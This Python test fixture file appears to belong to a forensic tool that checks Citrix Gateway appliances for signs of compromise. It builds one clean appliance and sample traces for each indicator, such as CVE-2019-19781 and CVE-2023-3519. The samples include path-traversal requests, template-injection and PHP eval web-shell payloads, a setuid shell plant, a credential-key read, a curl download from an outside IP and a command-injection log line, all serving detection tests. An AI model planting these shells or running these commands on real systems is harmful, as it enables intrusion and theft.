"""A clean appliance, and one trace of an attack for each indicator, as evidence shows them."""

import gzip
import hashlib
from datetime import UTC, datetime

from gatectl.core.collection import CollectedFile, Collection, CommandOutput
from gatectl.core.gate import NodeName

NODE = NodeName("ns1")
NOW = datetime(2020, 1, 24, 12, 0, tzinfo=UTC)
INSTALLED = datetime(2020, 1, 20, 8, 0, tzinfo=UTC)
OLD = datetime(2019, 11, 5, 1, 0, tzinfo=UTC)


def file(
    path: str,
    content: str | bytes | None = b"x\n",
    *,
    mode: int = 0o100600,
    owner: str = "root",
    mtime: datetime = OLD,
    node: NodeName = NODE,
) -> CollectedFile:
    """Make a collected file; by default an old one that only root reads."""
    data = content.encode() if isinstance(content, str) else content
    return CollectedFile(
        node=node,
        path=path,
        size=1 if data is None else len(data),
        mode=mode,
        owner=owner,
        mtime=mtime,
        sha256=hashlib.sha256(data or b"").hexdigest(),
        content=data,
    )


def ps(line: str) -> CommandOutput:
    """Make the output of ps with one more process."""
    return CommandOutput(node=NODE, command="shell ps auxww", text=f"USER PID COMMAND\n{line}\n")


def shell_line(command: str, *, user: str = "root", at: str = "Jan 19 23:26:52") -> str:
    """Make a line as the appliance logs what is typed at a shell."""
    return f'{at} <local7.notice> ns bash[1297]: {user} on (null) shell_command="{command}"\n'


def access_line(request: str, status: int, *, at: str = "18/Jan/2020:00:15:29 +0000") -> str:
    """Make a line of the web server's access log."""
    return f'203.0.113.7 - - [{at}] "{request} HTTP/1.1" {status} 71 "-" "curl/7.58"\n'


def shell_log(command: str, **kwargs: str) -> CollectedFile:
    """Make a packed shell history with one command."""
    line = shell_line(command, **kwargs).encode()
    return file("/var/log/sh.log.0.gz", gzip.compress(line), mtime=NOW)


def access_log(request: str, status: int) -> CollectedFile:
    """Make a web access log with one request."""
    return file("/var/log/httpaccess.log.0", access_line(request, status), mtime=NOW)


def cron_log(line: str) -> CollectedFile:
    """Make a log of cron with one line."""
    return file("/var/log/cron.0", f"Jan 19 23:00:06 <cron.info> ns cron[1]: {line}\n", mtime=NOW)


TRAVERSAL = "GET /vpn/../vpns"
NS_CONF = (
    b"#NS12.1 Build 51.19\n# Last modified by `save config`\nset ns config -IPAddress 10.0.0.1\n"
)

CLEAN_FILES = (
    file("/flash/ns-12.1-55.18.gz", None, mtime=INSTALLED),
    file("/nsconfig/ns.conf", NS_CONF + b"add system user nsroot abc -encrypted\n", mode=0o100644),
    file("/nsconfig/rc.netscaler", "nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0\n"),
    file("/var/ns_sys_backup/before.tgz", gzip.compress(NS_CONF), mode=0o100644),
    file("/var/tmp/support/support.tgz", gzip.compress(NS_CONF), mode=0o100644),
    file(
        "/etc/passwd",
        "root:*:0:0::/root:/bin/sh\nnsroot:*:0:0::/root:/netscaler/nssh\nnobody:*:65534:65534::/:/x\n",
    ),
    file(
        "/etc/httpd.conf",
        'Alias /admin_ui "/netscaler/ns_gui/admin_ui"\nRequire all denied\n'
        "AddType application/x-httpd-php .php\n",
    ),
    file("/etc/crontab", "*/5 * * * * root /usr/libexec/atrun\n0 * * * * root newsyslog\n"),
    file("/var/cron/tabs/root", "# nothing\n*/1 * * * * /netscaler/nsfsyncd -p\n"),
    file(
        "/netscaler/portal/templates/homepage.html",
        "[% BLOCK head %][% execute %]<a>re.exec(x)</a>\n",
    ),
    file("/netscaler/portal/scripts/subscription.pl", "use CGI;\neval(handle_subscriptions());\n"),
    file("/var/vpn/bookmark/jansen.xml", '<user username="jansen"><bookmarks/></user>\n'),
    file("/var/netscaler/gui/admin_ui/php/index.php", "<?php echo $_GET['page']; ?>\n"),
    file("/netscaler/ns_gui/vpn/index.html", "<title>Citrix Gateway</title>\n", mode=0o100644),
    file("/netscaler/ns_gui/vpn/js/rdx/core/lang/rdx_en.json.gz", gzip.compress(b"{}")),
    file("/netscaler/ping", None, mode=0o104555),
    file("/usr/bin/su", None, mode=0o104555),
    file(
        "/var/log/cron",
        "Jan 9 00:00:00 <cron.info> ns cron[9]: (root) CMD (newsyslog)\n",
        mtime=NOW,
    ),
    file(
        "/var/log/httperror.log",
        "[Wed Jan 15 15:09:05 2020] [notice] Apache configured\n",
        mtime=NOW,
    ),
    file(
        "/var/log/httpaccess.log",
        access_line("GET /vpn/index.html", 200, at="09/Jan/2020:06:00:00 +0100")
        + access_line("GET /vpns/portal/homepage.html", 200),
        mtime=NOW,
    ),
    file(
        "/var/log/bash.log",
        shell_line("kill -0 $pid >/dev/null 2>&1", at="Jan  8 10:00:00")
        + shell_line("cat /nsconfig/ns.conf")
        + shell_line("ls -l /var/tmp"),
        mtime=NOW,
    ),
)
CLEAN_OUTPUTS = (
    ps("nobody 431 /bin/httpd -k start\nroot 1 /netscaler/nsppe -a"),
    CommandOutput(node=NODE, command="show system user", text="1)\tUser name: nsroot\n Done\n"),
    CommandOutput(node=NODE, command="shell sockstat -4 -l", text="root ntpd 9 udp4 *:123 *:*\n"),
)
CLEAN = Collection(files=CLEAN_FILES, outputs=CLEAN_OUTPUTS, collected_at=NOW, nodes=(NODE,))

Sample = CollectedFile | CommandOutput
SAMPLES: dict[str, Sample] = {
    "19781-coin-miner": file("/var/tmp/netscalerd"),
    "19781-notrobin": file("/var/nstmp/.nscache/httpd", None),
    "19781-known-scripts": file("/netscaler/portal/scripts/PersonalBookmak.pl"),
    "19781-template-code": file(
        "/var/vpn/bookmark/a\nb\udce9.xml", '<b url="[% template.new %]"/>'
    ),
    "19781-template-perl": file(
        "/netscaler/portal/templates/note.html", "[% template.new({'BLOCK'='print `id`'}) %]"
    ),
    "19781-template-compiled": file(
        "/var/tmp/netscaler/portal/templates/pwn.xml.ttc2", "package Template;\n"
    ),
    "19781-template-of-web-user": file("/netscaler/portal/templates/a.xml", "<a/>", owner="nobody"),
    "19781-script-shell": file("/netscaler/portal/scripts/rmpm.pl", "system($cgi->param('c'));\n"),
    "19781-cron-of-nobody": file(
        "/var/cron/tabs/nobody", "# crontab\n* * * * * /var/nstmp/.nscache/httpd\n"
    ),
    "19781-cron-log-of-nobody": cron_log("(nobody) CMD (/var/nstmp/x)"),
    "19781-template-fetched": access_log(f"{TRAVERSAL}/portal/x.xml", 200),
    "19781-script-not-modified": access_log("POST /vpn/../%76pns/portal/scripts/newbm.pl", 304),
    "19781-scan-answered": access_log(f"{TRAVERSAL}/cfg/smb.conf", 200),
    "19781-scan-refused": access_log(f"{TRAVERSAL}/cfg/smb.conf", 403),
    "19781-error-log": file(
        "/var/log/httperror.log.0", "curl: (7) Failed to connect to 192.0.2.1\n", mtime=NOW
    ),
    "19781-shell-dropper": shell_log("echo x | tee /netscaler/portal/scripts/a.pl"),
    "19781-known-hosts": shell_log("curl http://185.178.45.221/x -o y"),
    "19781-process": ps("nobody 6 /var/tmp/netscalerd"),
    "19781-process-of-nobody": ps("nobody 6 perl"),
    "19781-notrobin-port": CommandOutput(
        node=NODE, command="shell sockstat -4 -l", text="nobody httpd 13 3 udp4 *:18634 *:*\n"
    ),
    "19781-copied-configuration": file("/var/vpn/themes/a.css", NS_CONF),
    "19781-readable-configuration": file("/tmp/n.gz", gzip.compress(NS_CONF), mode=0o100644),
    "3519-php-in-themes": file("/var/vpn/theme/.theme.php"),
    "3519-php-in-logon": file("/var/netscaler/logon/LogonPoint/uiareas/mac/ui.php"),
    "6543-xhtml-in-logon": file("/var/netscaler/logon/x.xhtml"),
    "3519-known-files": file("/var/tmp/npc"),
    "3519-data-as-script": file("/var/vpn/themes/insight.js"),
    "3519-changed-pages": file("/netscaler/ns_gui/admin_ui/php/log.php", mtime=NOW),
    "3519-shell-code": file("/netscaler/ns_gui/vpn/a.html", "<?php eval($_POST['x']); ?>"),
    "3519-plugin-shell": file("/netscaler/ns_gui/vpn/scripts/linux/nsg64.deb", "<?php echo 1;"),
    "3519-setuid": file("/var/tmp/sh", None, mode=0o104755),
    "3519-httpd-alias": file("/nsconfig/httpd.conf", 'Alias /x.css "/var/tmp/y"\n'),
    "6543-httpd-php": file("/nsconfig/httpd.conf", "AddType application/x-httpd-php .php .deb\n"),
    "3519-credential-reads": shell_log("cat /flash/nsconfig/keys/updated/F1.key"),
    "3519-shell-planting": shell_log("cp /bin/sh /var/tmp/sh; chmod 4775 /var/tmp/sh"),
    "3519-shell-of-nobody": shell_log("whoami", user="nobody"),
    "3519-cron-in-tmp": cron_log("(root) CMD (/var/tmp/the)"),
    "3519-process-in-tmp": ps("root 6 /var/tmp/the -c x"),
    "6543-boot-script": file("/flash/nsconfig/rc.netscaler", "python3 -c 'import os'\n"),
    "6543-core-dumps": file("/var/core/1/NSPPE-00-123.gz", None, mtime=NOW),
    "88771-known-files": file("/var/tmp/.nsmon/nsmon.pl"),
    "88771-httpd-alias": file("/nsconfig/httpd.conf", "AliasMatch ^/receiver.min.a1.css$ /x\n"),
    "88771-user": file("/nsconfig/ns.conf.1", NS_CONF + b"add system user sec_monitor x\n"),
    "88771-no-auth-group": file(
        "/nsconfig/ns.conf.1", "set authentication epaAction e -defaultEPAGroup NO_AUTH\n"
    ),
    "88771-injection": file(
        "/var/log/ns.log", "Jan 19 1:1:1 user pitboss unexpectedly died NSPPE;id>/x\n", mtime=NOW
    ),
    "88771-process": ps("root 6 perl nsmon.pl"),
    "generic-second-root": file("/etc/master.passwd", "root:*:0:0\nsupport:x:0:0:::\n"),
    "generic-unknown-user": file("/flash/nsconfig/ns.conf", "add system user eve x\n"),
    "generic-unknown-user-listed": CommandOutput(
        node=NODE, command="show system user", text="1)\tUser name: nsroot\n2)\tUser name: eve\n"
    ),
    "generic-unknown-user-running": CommandOutput(
        node=NODE,
        command="show ns runningConfig",
        text="add system user nsroot\nadd system user eve\n",
    ),
    "generic-cron-line": file("/nsconfig/crontab", "*/5 * * * * root perl /var/tmp/a.pl\n"),
    "generic-cron-owner": file("/var/cron/tabs/www", ""),
    "generic-system-file-newer": file("/usr/bin/login", None, mtime=NOW),
    "generic-page-of-web-user": file("/var/netscaler/logon/a.css", owner="65534"),
    "generic-hidden-page": file("/netscaler/ns_gui/vpn/.a"),
    "generic-archive-as-page": file("/netscaler/ns_gui/vpn/c.json", gzip.compress(b"loot")),
}
